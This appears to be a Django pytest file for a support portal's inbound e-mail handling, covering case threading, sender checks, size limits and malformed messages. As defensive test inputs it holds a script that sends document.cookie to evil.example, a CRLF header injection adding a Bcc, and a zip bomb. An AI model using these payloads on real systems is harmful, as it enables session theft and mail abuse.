"""A reply by e-mail lands on its case exactly as a message in the portal does; each bad reply gets a
clear outcome and loses nothing."""

from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import pytest
from django.core import mail as django_mail
from django.utils import timezone

from analysis.models import AnalysisJob
from cases import services as case_services
from cases.models import AuditEvent, Case, State, TimelineEntry
from communications.models import EmailDelivery
from inbound import addresses, services
from inbound.models import InboundMessage
from inbound.receiving import inbound_reconcile
from inbound.services import reply_address_revoke
from tests.factories import CustomerFactory
from tests.inbound.conftest import (
    MINIDUMP,
    SUPPORT,
    deliver,
    email,
    notify_latest,
    process,
    receive,
    reply_to_notification,
    sent_to,
)
from tests.inbound.test_parsing import GBK_ONLY, b64
from uploads.models import Upload

Reason = InboundMessage.Reason


def _notice_to(user, case, engineer) -> django_mail.EmailMessage:
    """The engineer asks something; the portal e-mails ``user``; that e-mail is what they answer."""
    case_services.timeline_add(actor=engineer, case=case, body="Please upload the minidump of the crash.")
    notify_latest("message_added")
    return sent_to(user.email)[-1]


@pytest.mark.samples
@pytest.mark.django_db(transaction=True)
def test_reply_to_a_real_notification_with_a_minidump_ends_on_the_timeline_analysed(
    listener, eager, scoped_case, customer, engineer, mailoutbox, samples
):
    notice = _notice_to(customer, scoped_case, engineer)
    dump = samples(MINIDUMP).read_bytes()
    address, raw = reply_to_notification(
        notice, body="The dump of this morning's crash is attached.", files=[("Mini031023-01.dmp", dump)]
    )
    listener.send(raw, to=[address])  # through the real listener
    [message_id] = listener.queued
    message = process(InboundMessage.objects.get(pk=message_id))

    assert message.state == InboundMessage.State.POSTED and message.case == scoped_case
    entry = message.timeline_entry
    assert (entry.author, entry.internal, entry.via) == (customer, False, "email")
    assert entry.body == "The dump of this morning's crash is attached."  # quoted history cut off
    upload = Upload.objects.get(case=scoped_case)
    assert upload.filename == "Mini031023-01.dmp" and upload.size == len(dump)
    assert upload.uploaded_by == customer and upload.kind == Upload.Kind.KERNEL_DUMP
    assert upload.state == Upload.State.ANALYSED
    assert AnalysisJob.objects.get(upload=upload).state == AnalysisJob.State.DONE
    assert message.attachments == [
        {
            "filename": "Mini031023-01.dmp",
            "size": len(dump),
            "outcome": "stored",
            "upload": str(upload.pk),
            "detail": "",
        }
    ]
    # Exactly as a message in the portal: the case goes back to the engineer, who is told.
    scoped_case.refresh_from_db()
    assert scoped_case.state == State.INVESTIGATING
    event = AuditEvent.objects.get(action="message_added", actor=customer)
    assert (event.from_state, event.to_state, event.data["via"]) == (
        State.AWAITING_CUSTOMER,
        State.INVESTIGATING,
        "email",
    )
    told = sent_to(engineer.email)
    assert any("The dump of this morning's crash is attached." in m.body for m in told)
    assert not [m for m in sent_to(customer.email) if m.subject.startswith("Re:")]  # nothing to answer


@pytest.mark.django_db
def test_gbk_reply_keeps_its_chinese_text(scoped_case, customer, engineer, mailoutbox):

    notice = _notice_to(customer, scoped_case, engineer)
    text = f"您好，已经运行内存诊断，没有发现错误。机器名 {GBK_ONLY}-PC。\r\n\r\n在 2023年3月10日 13:31，Support 写道：\r\n> 请上传"
    raw = (
        f"From: =?gb2312?B?{b64('张伟', 'gbk')}?= <{customer.email}>\r\n"
        f"To: {notice.reply_to[0]}\r\nSubject: =?gb2312?B?{b64('回复：' + notice.subject, 'gbk')}?=\r\n"
        "Message-ID: <gbk-1@example.cn>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="gb2312"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + b64(text, "gbk")
        + "\r\n"
    ).encode()
    message = deliver(raw, to=notice.reply_to[0], mail_from=customer.email)
    assert message.state == InboundMessage.State.POSTED
    assert message.timeline_entry.body == f"您好，已经运行内存诊断，没有发现错误。机器名 {GBK_ONLY}-PC。"
    assert message.subject.startswith("回复：") and message.from_name == "张伟"


@pytest.mark.django_db
def test_colleague_of_the_customer_may_answer_a_forwarded_email(
    scoped_case, customer, engineer, organisation, mailoutbox
):

    colleague = CustomerFactory(username="carol", organisation=organisation)
    notice = _notice_to(customer, scoped_case, engineer)
    address, raw = reply_to_notification(
        notice, body="I am Alice's colleague: here it is.", sender=colleague.email
    )
    message = deliver(raw, to=address, mail_from=colleague.email)
    assert message.state == InboundMessage.State.POSTED and message.timeline_entry.author == colleague


@pytest.mark.django_db
def test_staff_reply_is_a_message_to_the_customer(case, customer, engineer, mailoutbox):
    case_services.timeline_add(actor=customer, case=case, body="Any news?")
    notify_latest("message_added")
    [notice] = sent_to(engineer.email)
    address, raw = reply_to_notification(notice, body="We are reading the dump now.")
    message = deliver(raw, to=address, mail_from=engineer.email)
    entry = message.timeline_entry
    assert (entry.author, entry.internal, entry.kind) == (engineer, False, TimelineEntry.Kind.MESSAGE)


@pytest.mark.django_db
def test_staff_reply_to_the_note_address_is_an_internal_note_and_keeps_files_out_of_uploads(
    case, customer, engineer, mailoutbox
):
    note = addresses.reply_address_for(case=case, user=engineer, kind=addresses.NOTE)
    raw = email(
        to=note,
        sender=engineer.email,
        body="Customer's admin says the agent is v3.2.",
        files=[("agent.log", b"x" * 100)],
    )
    message = deliver(raw, to=note, mail_from=engineer.email)
    entry = message.timeline_entry
    assert (entry.internal, entry.kind, entry.author) == (True, TimelineEntry.Kind.NOTE, engineer)
    assert not Upload.objects.filter(case=case).exists()
    assert (
        message.attachments[0]["outcome"] == "skipped" and "internal note" in message.attachments[0]["detail"]
    )


@pytest.mark.django_db
def test_customer_using_a_staff_note_address_goes_to_staff(case, customer, engineer):
    note = addresses.reply_address_for(case=case, user=engineer, kind=addresses.NOTE)
    message = deliver(email(to=note, sender=customer.email, body="hi"), to=note)
    assert (message.state, message.reason) == (InboundMessage.State.QUEUED, Reason.SENDER_MISMATCH)
    assert not TimelineEntry.objects.filter(case=case, via="email").exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("make_address", "reason"),
    [
        (
            lambda case, user: (
                f"case+{case.number.lower()}.{user.pk}.r0.aaaaaaaaaaaaaaaa@support.example.com"
            ),
            Reason.TOKEN_UNKNOWN,
        ),
        (lambda case, user: "case+nothing@support.example.com", Reason.TOKEN_UNKNOWN),
    ],
    ids=["forged-signature", "malformed"],
)
def test_unknown_reply_address_goes_to_staff_with_the_reason(
    case, customer, make_address, reason, mailoutbox
):
    address = make_address(case, customer)
    message = deliver(email(to=address, body="Here it is"), to=address)
    assert (message.state, message.reason) == (InboundMessage.State.QUEUED, reason)
    assert message.timeline_entry is None and not TimelineEntry.objects.filter(via="email").exists()
    assert mailoutbox == []  # nobody unknown is answered


@pytest.mark.django_db
def test_revoked_reply_address_goes_to_staff(case, customer, engineer, mailoutbox):
    old = addresses.reply_address_for(case=case, user=customer)
    reply_address_revoke(actor=engineer, case=case, user=customer)
    message = deliver(email(to=old), to=old)
    assert (message.state, message.reason, message.case) == (
        InboundMessage.State.QUEUED,
        Reason.TOKEN_REVOKED,
        case,
    )


@pytest.mark.django_db
def test_expired_reply_address_goes_to_staff(settings, case, customer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    long_ago = timezone.now() - timedelta(days=settings.INBOUND_REPLY_EXPIRY_DAYS + 5)
    Case.objects.filter(pk=case.pk).update(state=State.CLOSED, closed_at=long_ago)
    message = deliver(email(to=address), to=address)
    assert (message.state, message.reason) == (InboundMessage.State.QUEUED, Reason.TOKEN_EXPIRED)


@pytest.mark.django_db
def test_reply_from_someone_outside_the_organisation_goes_to_staff(
    case, customer, other_customer, mailoutbox
):
    address = addresses.reply_address_for(case=case, user=customer)
    for sender in (other_customer.email, "stranger@elsewhere.example"):
        message = deliver(
            email(to=address, sender=sender, message_id=f"<{sender}>"), to=address, mail_from=sender
        )
        assert (message.state, message.reason) == (InboundMessage.State.QUEUED, Reason.SENDER_MISMATCH)
    assert not TimelineEntry.objects.filter(case=case, via="email").exists()


@pytest.mark.django_db
def test_reply_to_a_closed_case_goes_to_staff_and_the_customer_is_told(case, customer, engineer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    Case.objects.filter(pk=case.pk).update(state=State.CLOSED, closed_at=timezone.now())
    message = deliver(email(to=address, body="It crashed again"), to=address)
    assert (message.state, message.reason) == (InboundMessage.State.QUEUED, Reason.CASE_CLOSED)
    [answer] = sent_to(customer.email)
    assert "This case is closed" in answer.body and "passed to the support team" in answer.body
    assert answer.extra_headers["Auto-Submitted"] == "auto-replied"
    assert answer.extra_headers["In-Reply-To"] == f"<{message.message_id}>"


@pytest.mark.django_db
def test_reply_with_only_quoted_text_and_no_files_goes_to_staff(case, customer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    raw = email(to=address, body="On Mon, Wei wrote:\n> Please upload the dump\n")
    message = deliver(raw, to=address)
    assert (message.state, message.reason) == (InboundMessage.State.QUEUED, Reason.EMPTY)


@pytest.mark.django_db
def test_reply_with_files_and_no_text_lists_the_files(case, customer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    message = deliver(
        email(to=address, body="", files=[("System.evtx", b"ElfFile\0" + b"\0" * 100)]), to=address
    )
    assert message.state == InboundMessage.State.POSTED
    assert message.timeline_entry.body == "Files sent by e-mail: System.evtx"


@pytest.mark.slow  # a 67 MB message written, parsed and stored
@pytest.mark.django_db
def test_oversized_mail_is_refused_with_the_upload_link(settings, case, customer, mailoutbox):
    """A 50 MB dump, base64 in the mail (67 MB on the wire): nothing is posted, the sender is told where to
    upload it instead, and the original is kept."""
    address = addresses.reply_address_for(case=case, user=customer)
    raw = email(to=address, body="Here is MEMORY.DMP", files=[("MEMORY.DMP", b"\0" * (50 * 1024 * 1024))])
    assert len(raw) > 66 * 1024 * 1024
    message = deliver(raw, to=address)
    assert message.too_large and (message.state, message.reason) == (
        InboundMessage.State.REFUSED,
        Reason.TOO_LARGE,
    )
    assert not TimelineEntry.objects.filter(case=case, via="email").exists() and not Upload.objects.exists()
    [answer] = sent_to(customer.email)
    assert f"https://portal.example.com/cases/{case.number}/upload/" in answer.body
    assert "25.0\xa0MB" in answer.body and answer.reply_to == [address]
    assert message.size == len(raw) and message.storage_name  # the original, for staff


@pytest.mark.django_db
def test_attachment_over_the_quota_is_refused_and_the_customer_told(settings, case, customer, mailoutbox):
    settings.UPLOAD_CASE_QUOTA = 1000
    address = addresses.reply_address_for(case=case, user=customer)
    raw = email(to=address, body="two files", files=[("small.log", b"a" * 100), ("big.dmp", b"b" * 5000)])
    message = deliver(raw, to=address)
    assert message.state == InboundMessage.State.POSTED
    outcomes = {row["filename"]: row["outcome"] for row in message.attachments}
    assert outcomes == {"small.log": "stored", "big.dmp": "refused"}
    [answer] = [m for m in sent_to(customer.email) if m.subject.startswith("Re:")]
    assert (
        "big.dmp" in answer.body and "quota" in answer.body and f"/cases/{case.number}/upload/" in answer.body
    )


@pytest.mark.django_db
def test_zero_byte_attachment_is_skipped_and_said(case, customer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    message = deliver(email(to=address, body="see attached", files=[("empty.dmp", b"")]), to=address)
    assert message.state == InboundMessage.State.POSTED
    assert message.attachments == [
        {"filename": "empty.dmp", "size": 0, "outcome": "skipped", "detail": "empty file"}
    ]
    assert not Upload.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_zip_bomb_attached_is_rejected_by_the_archive_rules(settings, eager, case, customer, mailoutbox):
    settings.UPLOAD_ARCHIVE_MAX_RATIO = 100
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("MEMORY.DMP", b"\0" * (20 * 1024 * 1024))
    address = addresses.reply_address_for(case=case, user=customer)
    message = deliver(email(to=address, body="zipped", files=[("dumps.zip", bomb.getvalue())]), to=address)
    assert message.state == InboundMessage.State.POSTED
    upload = Upload.objects.get(case=case, parent=None)
    assert upload.state == Upload.State.REJECTED and "archive bomb" in upload.rejection_reason
    assert not Upload.objects.filter(parent=upload).exists()


@pytest.mark.django_db
def test_html_reply_with_scripts_is_posted_as_safe_text(case, customer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    raw = (
        f"From: {customer.email}\r\nTo: {address}\r\nSubject: Re: x\r\nMessage-ID: <html-1@example.com>\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        "<p>Done <script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<img src=x onerror=alert(1)>, the agent is removed.</p>"
    ).encode()
    message = deliver(raw, to=address)
    assert message.timeline_entry.body == "Done, the agent is removed."


@pytest.mark.django_db
def test_header_injection_in_the_display_name_never_reaches_an_answer(case, customer, mailoutbox):
    Case.objects.filter(pk=case.pk).update(state=State.CLOSED, closed_at=timezone.now())  # so it is answered
    address = addresses.reply_address_for(case=case, user=customer)
    raw = (
        "From: =?utf-8?b?QWxpY2UNCkJjYzogdmljdGltQGV4YW1wbGUuY29t?= <alice@example.com>\r\n"
        f"To: {address}\r\nSubject: =?utf-8?q?x=0D=0ABcc:_victim@example.com?=\r\nMessage-ID: <inj@example.com>\r\n\r\nhi"
    ).encode()
    message = deliver(raw, to=address)
    assert "\n" not in message.from_name and "\n" not in message.subject
    [answer] = mailoutbox
    assert answer.to == [customer.email] and answer.bcc == [] and answer.cc == []
    generated = answer.message().as_string()
    assert "victim@example.com" not in generated.split("\n\n", 1)[0].replace("Subject: Re: x Bcc: victim", "")


@pytest.mark.django_db
def test_malformed_mime_still_gets_an_outcome(case, customer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    raw = (
        f"From: {customer.email}\r\nTo: {address}\r\nMessage-ID: <broken@example.com>\r\n"
        "Content-Type: multipart/mixed\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nthe text survives\r\n"
    ).encode()
    message = deliver(raw, to=address)
    assert message.state == InboundMessage.State.POSTED
    assert "the text survives" in message.timeline_entry.body
    assert "malformed" in message.detail and "NoBoundaryInMultipartDefect" in message.detail


@pytest.mark.django_db
def test_running_the_task_again_posts_nothing_twice(case, customer, mailoutbox):
    address = addresses.reply_address_for(case=case, user=customer)
    message = deliver(email(to=address, body="once", files=[("a.log", b"abc")]), to=address)
    InboundMessage.objects.filter(pk=message.pk).update(
        state=InboundMessage.State.RECEIVED
    )  # redelivered task
    process(message)
    assert TimelineEntry.objects.filter(case=case, via="email").count() == 1
    assert Upload.objects.filter(case=case).count() == 1


@pytest.mark.django_db
def test_a_message_that_keeps_failing_goes_to_staff_after_its_attempts(settings, monkeypatch, case, customer):

    address = addresses.reply_address_for(case=case, user=customer)
    message = receive(email(to=address), to=[address])
    monkeypatch.setattr(
        services.parsing, "mail_parse", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("boom"))
    )
    for _attempt in range(settings.INBOUND_MAX_ATTEMPTS):
        with pytest.raises(RuntimeError):
            process(message)
        message.refresh_from_db()
        assert message.state == InboundMessage.State.RECEIVED and message.lease_until is None
    message = process(message)
    assert (message.state, message.reason) == (InboundMessage.State.QUEUED, Reason.FAILED)
    assert message.storage_name  # kept for staff


@pytest.mark.django_db
def test_reply_sent_to_the_support_address_finds_its_case_by_threading(case, customer, engineer, mailoutbox):

    case_services.timeline_add(actor=engineer, case=case, body="Which build?")
    notify_latest("message_added")
    [notice] = sent_to(customer.email)
    raw = email(
        to=SUPPORT,
        body="19041",
        headers={"In-Reply-To": notice.extra_headers["Message-ID"]},
    )
    message = deliver(raw, to=SUPPORT)
    assert message.state == InboundMessage.State.POSTED and message.case == case
    assert message.timeline_entry.body == "19041"


@pytest.mark.django_db
def test_reconciler_queues_messages_whose_task_was_lost(queued, case, customer):
    address = addresses.reply_address_for(case=case, user=customer)
    message = receive(email(to=address), to=[address])
    assert inbound_reconcile() == 0  # just received: its task is on its way
    assert inbound_reconcile(now=timezone.now() + timedelta(minutes=5)) == 1
    assert queued[-1] == message.pk
    assert EmailDelivery.objects.count() == 0
